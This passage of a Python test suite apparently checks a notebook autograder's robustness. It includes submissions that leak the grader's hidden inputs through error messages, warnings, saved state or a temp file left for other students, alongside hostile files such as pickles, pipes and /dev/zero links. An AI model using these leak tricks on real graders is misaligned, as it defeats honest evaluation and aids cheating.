    ("leak_name_error", "Hidden inputs in the name that a NameError is about.", "raise NameError(MARK, name=MARK)"),
    ("leak_syntax_error", "Hidden inputs in a syntax error's text.", "exec(MARK + ' +', {})"),
    ("leak_cause", "Hidden inputs in an exception's cause and notes.", "raise noted(MARK) from ValueError(MARK)"),
    ("leak_missing_import", "Hidden inputs in the name of a module.", "__import__(MARK.replace('-', '_'))"),
    (
        "leak_signature",
        "Hidden inputs in a message on required positional arguments.",
        "raise TypeError('required positional ' + MARK)",
    ),
]:
    leak(
        name,
        tries,
        front("""
            import logging, warnings
            MARK

            def shout(text):
                warnings.warn(text)
                logging.error(text)
                display(text)
                sys.__stderr__.write(text)

            def noted(text):
                error = RuntimeError(text)
                error.add_note(text)
                return error
        """),
        leaking(act),
        start="honest",
        deserved=100 if name == "leak_print" else lost("predict"),
    )
leak(
    "leak_later",
    "Hidden inputs of one function kept, and told in every later call of another.",
    front("SEEN = []\nMARK"),
    instead(
        "forward_propagation",
        FORWARD
        + """    if hidden(X):
        SEEN.append(MARK)
    return 0, {"SEEN": SEEN}""",
    ),
    instead("predict", PREDICT + "    raise ValueError(' '.join(SEEN) or 'nothing yet')"),
    instead(
        "nn_model",
        """
        def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):
            forward_propagation(X, initialize_parameters(2, 2, 1))
            raise ValueError(" ".join(SEEN) or "nothing yet")
        """,
    ),
    start="honest",
    deserved=lost("forward_propagation", "predict", "nn_model"),
)
leak(
    "leak_for_classmates",
    "Hidden inputs left in a file for whoever is graded next.",
    leaking("""libc.open(os.fsencode(f"{TMP}/{TRACE}"), os.O_WRONLY | os.O_CREAT, 0o666)"""),
    start="honest",
    deserved=100,
    leaves=FILE,
    needs=FILTER,
)

# === broken files ===============================================================================================


def _edited_json(**more: Any) -> Change:
    return edit(lambda notebook: notebook.update(more))


def _zipped(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("w3_shallow_network.ipynb", content)
    return buffer.getvalue()


def _large_outputs(handed: Handed) -> None:
    named(handed, "training")["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "x" * 1000} for _ in range(100_000)
    ]


for name, tries, change, status in [
    ("empty_file", "An empty file.", lambda content: b"", "unreadable"),
    ("truncated", "A file that breaks off.", lambda content: content[: len(content) // 2], "unreadable"),
    ("latin_1", "A file in another encoding.", lambda content: content[:-1] + b', "x": "\xe4\xf6"}', "unreadable"),
    ("utf_16", "A file in UTF-16.", lambda content: content.decode().encode("utf-16"), "unreadable"),
    ("compressed", "A compressed file under the notebook's name.", gzip.compress, "unreadable"),
    ("archive", "An archive under the notebook's name.", _zipped, "unreadable"),
    ("pickled_file", "A pickle under the notebook's name.", lambda content: pickle.dumps(print), "unreadable"),
    ("nested", "A hundred thousand brackets.", lambda content: b"[" * 100_000, "unreadable"),
    (
        "huge_integer",
        "A number of a hundred thousand digits.",
        lambda c: c[:-1] + b', "x": ' + b"9" * 10**5 + b"}",
        None,
    ),
    ("not_a_number", "NaN and Infinity, which are no JSON.", lambda c: c[:-1] + b', "x": [NaN, -Infinity]}', "graded"),
    ("null_bytes", "Null bytes at the end.", lambda content: content + bytes(4096), "unreadable"),
    ("a_list", "JSON, but a list.", lambda content: b"[" + content + b"]", "not_a_notebook"),
    ("a_number", "JSON, but a number.", lambda content: b"100", "not_a_notebook"),
    ("cells_no_list", "Cells that are no list.", lambda content: b'{"cells": {"source": "x"}}', "not_a_notebook"),
    (
        "old_worksheets",
        "Worksheets that are a number.",
        lambda c: b'{"worksheets": 5, "nbformat": 3}',
        "not_a_notebook",
    ),
    ("a_web_page", "The page of a login instead of the notebook.", lambda c: b"<!DOCTYPE html><p>Log in", "unreadable"),
]:
    broken(
        name,
        tries,
        raw(change),
        status=status,
        **(
            {"deserved": 100}
            if status == "graded"
            else {"deserved": (0, 100), "why": "read or refused"}
            if status is None
            else {}
        ),
    )
broken("large_outputs", "A hundred megabytes of output.", _large_outputs, status="too_large")
broken("large_sparse", "Four gigabytes of nothing.", lambda h: _sparse_notebook(h, 4 << 30), status="too_large")
broken(
    "pipe_for_notebook",
    "A named pipe in the notebook's place.",
    nothing_written,
    pipe("w3_shallow_network.ipynb"),
    status="unreadable",
)
broken(
    "folder_for_notebook",
    "A folder in the notebook's place.",
    nothing_written,
    lambda handed: (handed.folder / "w3_shallow_network.ipynb").mkdir(),
    status="unreadable",
)
broken(
    "device_for_notebook",
    "A link to an endless device in the notebook's place.",
    nothing_written,
    link("w3_shallow_network.ipynb", "/dev/zero"),
    status="unreadable",
)
broken("pipe_beside", "A named pipe beside the notebook.", pipe("data.csv"), pipe("timestamp.txt"), deserved=100)
broken(
    "odd_timestamp",
    "Timestamps and secrets that are none.",
    beside("timestamp.txt", b"\xff\xfe yesterday"),
    beside("submission_secret.txt", b"\x00" * 100),
    deserved=100,
)
broken(
    "many_cells", "Two thousand cells.", edit(lambda n: n["cells"].extend([code_cell("1")] * 2000)), status="too_large"
)
broken(
    "odd_cells",
    "Cells that are null, numbers, without a source or with one of the wrong kind.",
    edit(
        lambda n: n["cells"].extend([None, 7, "x", [], {}, {"cell_type": "code"}, {"cell_type": "code", "source": 5}])
    ),
    edit(lambda n: n["cells"].append({"cell_type": ["code"], "source": {"a": 1}, "metadata": 3, "outputs": None})),
    deserved=100,
)
broken(
    "odd_metadata",
    "Metadata of the wrong shapes everywhere.",
    edit(lambda n: [cell.update(metadata=[1, "x", None]) for cell in n["cells"]]),
    _edited_json(metadata="none", nbformat="four", nbformat_minor=None),
    deserved=100,
)
broken(
    "odd_names",
    "Names of cells that are lists, dictionaries and halves of characters.",
    edit(
        lambda n: [
            cell.setdefault("metadata", {}).update(nbgrader={"grade_id": [{"x": []}, {}, "\ud800", 1.5][i % 4]})
            for i, cell in enumerate(n["cells"])
            if "nbgrader" not in cell["metadata"]
        ]
    ),
    deserved=100,
)
broken(
    "half_characters",
    "Halves of characters and control characters in code and text.",
    edit(lambda n: n["cells"].insert(0, code_cell("x = '\ud800\x00'\n# \ud83d", id="half"))),
    edit(lambda n: n["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "\ud83d\x1b[31m\x00"})),
    deserved=100,
)
broken("double_keys", "Two lists of cells in one notebook.", raw(lambda c: b'{"cells": [], ' + c[1:]), deserved=100)


def _sparse_notebook(handed: Handed, size: int) -> None:
    nothing_written(handed)
    _sparse(handed, "w3_shallow_network.ipynb", size)


# === honest accidents ===========================================================================================


def _without_metadata(notebook: dict[str, Any]) -> None:
    """As Colab and old editors save: no ids, no metadata but their own, an older minor version."""
    notebook.update(nbformat_minor=0, metadata={"colab": {"provenance": []}, "accelerator": "GPU"})
    for cell in notebook["cells"]:
        cell.pop("id", None)
        cell["metadata"] = {"id": "Zx81", "colab": {"base_uri": "https://localhost:8080/"}}


def _version_3(content: bytes) -> bytes:
    notebook = nbformat.reads(content.decode(), as_version=4)
    return nbformat.writes(nbformat.convert(notebook, 3), version=3).encode()


def _copied(name: str) -> Change:
    """The cell of this name a second time, as an editor copies it, metadata and all."""
    return lambda handed: handed.notebook["cells"].append({**named(handed, name), "id": "copied"})


def _split(handed: Handed) -> None:
    cell = named(handed, "nn_model")
    upper, lower = cell["source"].split("    for i in", 1)
    place = handed.notebook["cells"].index(cell)
    handed.notebook["cells"].insert(place, {**cell, "source": upper, "id": "upper"})
    cell["source"] = "    for i in" + lower


accident("copied_solution", "A solution cell copied.", _copied("predict"))
accident("copied_check", "A check cell copied.", _copied("check_predict"))
accident("copied_everything", "All cells twice.", edit(lambda n: n["cells"].extend(json.loads(json.dumps(n["cells"])))))
accident("split_cell", "A solution cell split in two.", _split)
accident(
    "deleted_given",
    "Given cells and checks deleted.",
    edit(
        lambda n: n.update(
            cells=[cell for cell in n["cells"] if cell.get("id") not in ("setup", "check_predict", "flower", "pencil")]
        )
    ),
)
accident("colab", "Saved by Colab.", edit(_without_metadata))
accident("version_3", "Saved in an old format.", raw(_version_3))
accident("byte_order_mark", "A byte order mark in front.", raw(lambda content: b"\xef\xbb\xbf" + content))
accident(
    "windows_lines",
    "Windows' ends of lines.",
    edit(lambda n: [cell.update(source=cell["source"].replace("\n", "\r\n")) for cell in n["cells"]]),
)
accident(
    "stderr",
    "Text on stderr.",
    front("import sys\nprint('hm', file=sys.stderr)\nsys.stderr.write('hm')"),
    replaced("predict", "return", "import sys; print('predicting', file=sys.stderr)\n    return"),
)
accident(
    "warnings",
    "Warnings, from Python and from NumPy.",
    front("import warnings\nwarnings.warn('old')"),
    replaced(
        "compute_cost", "return cost", "import warnings; warnings.warn('odd')\n    np.log(np.zeros(1))\n    return cost"
    ),
)
accident(
    "strict_numpy",
    "NumPy told to raise, warnings made errors.",
    before(
        "layer_sizes",
        """
    import warnings
    warnings.simplefilter("error")
    np.seterr(divide="raise", invalid="raise")
""",
    ),
)
accident(
    "name_clash_given", "A given function's name used for something else.", behind("accuracy = 93.5\nsigmoid = None")
)
accident("name_clash_data", "The data's names used again.", behind("X = Y = m = None\ndata = [1, 2]\ncheck = 3"))
accident(
    "name_clash_solution",
    "A solved function's name used for its result.",
    behind("predict = predict({'W1': np.ones((1, 2)), 'b1': 0, 'W2': np.ones((1, 1)), 'b2': 0}, np.ones((2, 3)))"),
)
accident(
    "own_helper", "A helper called like a module.", before("predict", "def json(x):\n    return x\nos = sys = re = 1")
)
accident(
    "change_folder", "A change of the working folder, up and away.", front("import os\nos.chdir('..')\nos.chdir('/')")
)
accident("input", "A question to whoever runs the cell.", front("name = input('Your name? ')\nprint(int(name))"))
accident(
    "shell_lines",
    "Shell lines and magics.",
    front("!pip install torch\n%pip install torch\n!nvidia-smi\n%cd ..\nx = !ls"),
)
accident(
    "magics",
    "Timing magics above a solution.",
    replaced("predict", "def predict", "%%time\n\ndef predict"),
    front("%load_ext autoreload\n%autoreload 2\n%matplotlib widget\n%timeit 1 + 1"),
)
accident(
    "exit_at_the_end",
    "exit(), quit() and sys.exit() in cells.",
    behind("import sys\nsys.exit()"),
    front("exit()"),
    before("predict", "quit"),
)
accident(
    "failing_scratch",
    "A scratch cell that fails, and one that is no Python.",
    front("assert 1 == 2"),
    before("predict", "this is no Python, is it"),
    behind("1 / 0"),
)
accident(
    "missing_library",
    "A library that isn't here.",
    front("import torch\nfrom tensorflow import keras"),
    replaced("predict", "def predict", "import torch.nn as nn\n\n\ndef predict"),
)
accident(
    "missing_file",
    "A file of one's own that isn't here.",
    before("predict", "mine = open('C:/mine/notes.txt').read()"),
)
accident(
    "file_beside",
    "A file of one's own that is.",
    beside("mine.csv", b"1,2,3\n"),
    before("predict", "threshold = np.loadtxt('mine.csv', delimiter=',')[0] / 2"),
    replaced("predict", "> 0.5", "> threshold"),
)
accident(
    "module_beside",
    "A module of one's own, handed in with the notebook.",
    beside("my_helpers.py", b"HALF = 0.5\n"),
    before("predict", "try:\n    from my_helpers import HALF\nexcept ImportError:\n    HALF = 0.5"),
    replaced("predict", "> 0.5", "> HALF"),
)
accident(
    "saved_files",
    "Arrays, figures and texts saved.",
    behind("""
    np.save("weights.npy", np.ones(3))
    plt.plot([1, 2]); plt.savefig("loss.png")
    open("notes.txt", "w").write("done")
"""),
    replaced("nn_model", "return parameters", "np.savez('model.npz', **parameters)\n    return parameters"),
)
accident(
    "big_outputs",
    "Twelve megabytes of saved output.",
    lambda handed: named(handed, "training").update(
        outputs=[{"output_type": "stream", "name": "stdout", "text": ["Cost after iteration\n"] * 400_000}]
    ),
)
accident(
    "own_thread",
    "A thread and a pool left running.",
    front("""
    import threading, time
    from concurrent.futures import ThreadPoolExecutor
    threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
    pool = ThreadPoolExecutor(2)
    pool.submit(time.sleep, 0.1)
"""),
)
accident(
    "own_seed",
    "A seed set, a recursion limit raised, options of NumPy's changed.",
    front("""
    import random, sys
    import numpy as np
    random.seed(3); np.random.seed(3); sys.setrecursionlimit(5000)
    np.set_printoptions(precision=2); np.random.randn = np.random.standard_normal if False else np.random.randn
"""),
)
accident(
    "annotations",
    "Annotations, a future import, an await at the top.",
    replaced("predict", "def predict(parameters, X)", "def predict(parameters: dict, X: 'np.ndarray') -> 'np.ndarray'"),
    front("from __future__ import annotations\nimport asyncio\nawait asyncio.sleep(0)"),
)
accident(
    "debug_prints",
    "Thousands of printed lines in a solution.",
    replaced("forward_propagation", "return A2", "[print(Z1.shape, Z1) for _ in range(20)]\n    return A2"),
)
accident(
    "slow_but_honest",
    "A demonstration that takes a second, in a cell of one's own.",
    behind("import time\nuntil = time.process_time() + 0.7\nwhile time.process_time() < until:\n    pass"),
)
